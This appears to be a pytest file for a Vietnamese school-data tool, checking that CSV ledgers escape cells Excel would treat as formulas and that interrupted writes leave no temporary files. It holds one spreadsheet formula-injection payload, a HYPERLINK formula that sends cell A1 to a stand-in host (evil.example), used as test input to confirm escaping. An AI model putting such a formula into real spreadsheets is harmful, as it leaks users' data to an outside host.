"""CSV ledgers open safely in Excel and read back unchanged; no temporary file is ever published.

Real workbooks, the real ``hoctap`` command, the real bytes on disk; the kill test sends
SIGKILL to a running ``hoctap clean`` while it is writing.
"""

from __future__ import annotations

import csv
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from builders import corpus
from builders.cli import HOCTAP, clean
from builders.corpus import Book, default_info, village, write_xlsx
from hoctap import io
from hoctap.paths import SHIPPED_REFERENCE_DIR, Workspace

REPO = Path(__file__).resolve().parents[2]
YEAR = corpus.YEAR
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


def new_workspace(root: Path) -> Workspace:
    shutil.copytree(SHIPPED_REFERENCE_DIR, root / "data" / "reference")
    (root / "data" / "raw" / str(YEAR)).mkdir(parents=True)
    return Workspace.at(root / "data", root / "reports")


def raw_cells(path: Path) -> list[list[str]]:
    """The cells exactly as Excel receives them (csv module, no unescaping)."""
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _text_book(path: Path, school_name: str, village_names: list[str]) -> Path:
    """A workbook whose cells hold *text* starting with = + - @ (a typed apostrophe, a paste)."""
    book = Book(
        info=default_info(school_code="", school_name="MN Hoa Sen"),
        villages=[village(name, 100 + 10 * i) for i, name in enumerate(village_names)],
    )
    write_xlsx(book, path)
    wb = openpyxl.load_workbook(path)
    cells = [(wb["ThongTin"], "B5", school_name)] + [
        (wb["DiaBan"], f"B{4 + i}", n) for i, n in enumerate(village_names)
    ]
    for sheet, ref, text in cells:
        sheet[ref].value = text
        sheet[ref].data_type = "s"  # stored as a string cell, not a formula
    wb.save(path)
    return path


# ---- io.write_csv / io.read_csv ----------------------------------------------------------------


def test_cells_excel_would_run_get_an_apostrophe_and_read_back_unchanged(tmp_path):
    texts = [
        INJECTION,
        "+84912345678",
        "-",
        "-3",
        "@SUM(A1:A9)",
        "\tTab",
        "\rCR",
        "'=already quoted",
        "''+two",
        "'plain apostrophe",
        "Thôn 1",
        "a=b",
        "",
        None,
    ]
    df = pd.DataFrame(
        {
            "name": texts,
            "n": range(len(texts)),
            "s": pd.array([f"-{i}x" for i in range(len(texts))], dtype="string"),
        }
    )
    target = tmp_path / "ledger.csv"
    io.write_csv(target, df)
    rows = raw_cells(target)
    assert rows[0] == ["name", "n", "s"]
    written = [r[0] for r in rows[1:]]
    for original, cell in zip(texts, written, strict=True):
        if original and original.startswith(TRIGGERS):
            assert cell == "'" + original
        elif original and original.startswith("'") and original.lstrip("'")[:1] in TRIGGERS:
            assert cell == "'" + original  # one more apostrophe: the escape stays reversible
        else:
            assert cell == (original or "")
    assert all(not cell.startswith(TRIGGERS) for row in rows[1:] for cell in row[::2])
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(texts))]  # numbers are not text: untouched
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")
    back = io.read_csv(target)
    assert back["name"].tolist()[:-2] == texts[:-2] and back["name"].isna().tolist()[-2:] == [
        True,
        True,
    ]
    assert back["s"].tolist() == list(df["s"]) and back["n"].tolist() == list(range(len(texts)))
    io.write_parquet(tmp_path / "ledger.parquet", df)  # Parquet keeps the raw text
    assert pd.read_parquet(tmp_path / "ledger.parquet")["name"].tolist()[:-2] == texts[:-2]


def test_read_csv_gives_columns_the_types_they_had(tmp_path):
    """A column of "-3", "5" reads as numbers, as it would have without the escapes."""
    target = tmp_path / "t.csv"
    io.write_csv(target, pd.DataFrame({"v": ["-3", "5", "-"], "w": ["-3", "5", "7"]}))
    back = io.read_csv(target)
    assert back["w"].tolist() == [-3, 5, 7] and back["v"].tolist() == ["-3", "5", "-"]
    fixed = io.read_csv(target, dtype=str, keep_default_na=False)
    assert fixed["w"].tolist() == ["-3", "5", "7"]


def test_clean_ledgers_are_excel_safe_and_keep_the_original_text(tmp_path):
    ws = new_workspace(tmp_path)
    names = ["-Thôn Một", "@Buôn Hai", "+Tổ 3", "Thôn 4"]
    _text_book(ws.raw(YEAR) / "a.xlsx", INJECTION, names)
    out = clean(ws)
    assert out.returncode == 0, out.stderr
    proc = ws.processed(YEAR)
    for name in ("intake.csv", "issues.csv", "completeness.csv"):
        rows = raw_cells(proc / name)
        bad = [cell for row in rows for cell in row if cell.startswith(TRIGGERS)]
        assert bad == [], (name, bad)
    header, row = raw_cells(proc / "intake.csv")
    assert row[header.index("school_name")] == "'" + INJECTION  # what Excel shows as text
    intake = io.read_csv(proc / "intake.csv")
    assert intake["school_name"].tolist() == [INJECTION]
    comp = io.read_csv(proc / "completeness.csv")
    assert INJECTION in set(comp["school_name"])
    issues = io.read_csv(proc / "issues.csv")
    assert INJECTION in set(issues["value"])  # the unregistered school, named as it was written
    schools = pd.read_parquet(proc / "schools.parquet")
    assert schools["school_name"].tolist() == [INJECTION]
    villages = pd.read_parquet(proc / "villages.parquet")
    assert sorted(villages["village"]) == sorted(names)


# ---- no temporary file in a published folder ---------------------------------------------------


def _published_temporaries(ws: Workspace) -> list[Path]:
    found = []
    for folder in (ws.processed(YEAR), ws.reports_year(YEAR)):
        if folder.exists():
            found += [p for p in folder.rglob("*") if p.name.startswith(".") or ".tmp" in p.name]
    return found


def test_temporaries_live_in_the_staging_folder(tmp_path):
    ws = new_workspace(tmp_path)
    for target in (
        ws.processed(YEAR) / "issues.csv",
        ws.feedback_dir(YEAR) / "KP001.xlsx",
        ws.reports_year(YEAR) / f"bao-cao-nam-{YEAR}.pdf",
        ws.reports_dir / "index.html",
    ):
        tmp = io.temp_path(target)
        assert tmp.parent == ws.data_dir / ".staging" and tmp.name.endswith(".tmp"), tmp
    with io.atomic_path(ws.feedback_dir(YEAR) / "KP001.xlsx") as tmp:
        tmp.write_bytes(b"x")
        assert tmp.exists() and not any(ws.feedback_dir(YEAR).iterdir())
    assert (ws.feedback_dir(YEAR) / "KP001.xlsx").read_bytes() == b"x"
    assert list((ws.data_dir / ".staging").iterdir()) == []


def test_stale_temporaries_are_swept_live_ones_kept(tmp_path):
    staging = tmp_path / "data" / ".staging"
    staging.mkdir(parents=True)
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    stale = staging / f"{dead.stdout.strip()}-0-issues.csv.tmp"
    mine = staging / f"{os.getpid()}-0-intake.csv.tmp"
    other = staging / "notes.txt"  # not a temporary of ours: never touched
    for p in (stale, mine, other):
        p.write_text("x")
    Workspace.at(tmp_path / "data", tmp_path / "reports")
    assert sorted(p.name for p in staging.iterdir()) == sorted([mine.name, other.name])


def _big_workspace(root: Path) -> Workspace:
    """Enough rows that issues.csv takes a while to write (every row has an error)."""
    ws = new_workspace(root)
    schools = [
        ("KP001", "MN Hoa Sen"),
        ("KP002", "TH Lê Lợi"),
        ("KP003", "TH Nguyễn Du"),
        ("KP004", "THCS Trần Phú"),
    ]
    for k, (sid, name) in enumerate(schools):
        rows = [village(f"Thôn {k}-{i}", 100, households_total="70%") for i in range(4000)]
        write_xlsx(
            Book(info=default_info(school_code=sid, school_name=name), villages=rows),
            ws.raw(YEAR) / f"f{k}.xlsx",
        )
    return ws


def test_kill_9_mid_write_leaves_no_temporary_in_published_folders(tmp_path):
    ws = _big_workspace(tmp_path)
    assert clean(ws).returncode == 0
    staging = ws.data_dir / ".staging"
    cmd = [
        str(HOCTAP),
        "clean",
        "--year",
        str(YEAR),
        "--data-dir",
        str(ws.data_dir),
        "--reports-dir",
        str(ws.reports_dir),
    ]
    left = []
    for _ in range(5):  # the write is caught in the act (a temporary is there when the kill lands)
        proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        while proc.poll() is None:
            if staging.is_dir() and any(staging.iterdir()):
                os.kill(proc.pid, signal.SIGKILL)
                break
            time.sleep(0.0005)
        proc.wait()
        left = list(staging.iterdir())
        if proc.returncode == -signal.SIGKILL and left:
            break
    assert proc.returncode == -signal.SIGKILL and left, "never killed while a file was being written"
    assert _published_temporaries(ws) == []
    for name in ("intake.csv", "issues.csv", "completeness.csv"):  # the previous outputs, whole
        assert len(io.read_csv(ws.processed(YEAR) / name))
    for name in ("schools.parquet", "villages.parquet", "orgs.parquet"):
        pd.read_parquet(ws.processed(YEAR) / name)
    out = clean(ws)  # the next run sweeps what the killed one left
    assert out.returncode == 0, out.stderr
    assert list(staging.iterdir()) == [] and _published_temporaries(ws) == []
    assert len(io.read_csv(ws.processed(YEAR) / "issues.csv")) >= 16000


@pytest.mark.slow
@pytest.mark.parametrize("name", ["01-clean.ipynb"])
def test_notebook_runs_are_staged_too(tmp_path, name):
    """papermill saves the notebook while it runs: into staging, then renamed into reports/."""
    from hoctap import pipeline

    ws = new_workspace(tmp_path)
    write_xlsx(Book(), ws.raw(YEAR) / "a.xlsx")
    out = pipeline.execute_notebook(
        name,
        ws.reports_year(YEAR) / name,
        {"data_dir": str(ws.data_dir), "reports_dir": str(ws.reports_dir), "year": YEAR},
    )
    assert out.is_file() and _published_temporaries(ws) == []
    assert list((ws.data_dir / ".staging").iterdir()) == []
